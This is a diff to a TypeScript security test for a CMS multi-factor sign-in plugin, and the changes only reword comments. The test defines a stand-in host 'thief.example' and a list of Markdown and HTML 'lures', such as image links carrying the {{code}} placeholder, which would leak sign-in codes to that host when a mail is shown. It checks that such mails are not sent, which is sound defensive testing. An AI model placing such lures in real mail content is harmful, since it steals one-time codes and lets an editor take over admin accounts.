@@ -5,9 +5,9 @@ import authMfa from '../../plugins/auth-mfa/server/index.ts'
 
 /**
  * An editor wants to be admin. They may write content, and the mails of the sign-in are content: a picture or a link that carries
- * `{{code}}` to a host of their own tells them the code as soon as the admin's mail program shows the mail, and `{{link}}` or the
- * consent mail's token the same. It must fail twice: an editor cannot publish a mail, and the host sends no mail with a foreign
- * picture, link or address beside a secret, no matter who has published it.
+ * `{{code}}` to a host of their own tells them the code as soon as the admin's mail program shows the mail, and `{{link}}` or the consent
+ * mail's token the same. It must fail twice: an editor cannot publish a mail, and the host sends no mail with a foreign picture, link or
+ * address beside a secret, no matter who has published it.
  */
 
 interface Variant {
@@ -18,7 +18,7 @@ interface Variant {
 }
 
 const evil = 'thief.example'
-/** Ways of Markdown, HTML and mail programs to reach another host. */
+/** Ways in Markdown, HTML and mail programs to contact another host. */
 const lures: readonly [name: string, field: 'text' | 'markdown' | 'subject', words: string][] = [
   ['a picture', 'markdown', `![](https://${evil}/{{code}}.png)`],
   ['a picture by reference', 'markdown', `![x][pic]\n\n[pic]: https://${evil}/{{code}}`],
@@ -137,7 +137,7 @@ describe('RV2: whoever publishes', () => {
 
   it.each(lures)('RV2: %s that stands in the database all the same is not sent', async (_, field, words) => {
     const keeping = field === 'subject' ? words : `{{code}}\n\n${words}`
-    // Written past every check, as an older release may have left it.
+    // Written without checks, as an older release may have left it.
     const context = { isSeeding: true }
     const data = { data: withChange('code', { [field]: keeping }), _status: 'published' }
     await host.payload.update({ collection: 'pages', id, data, context } as never)
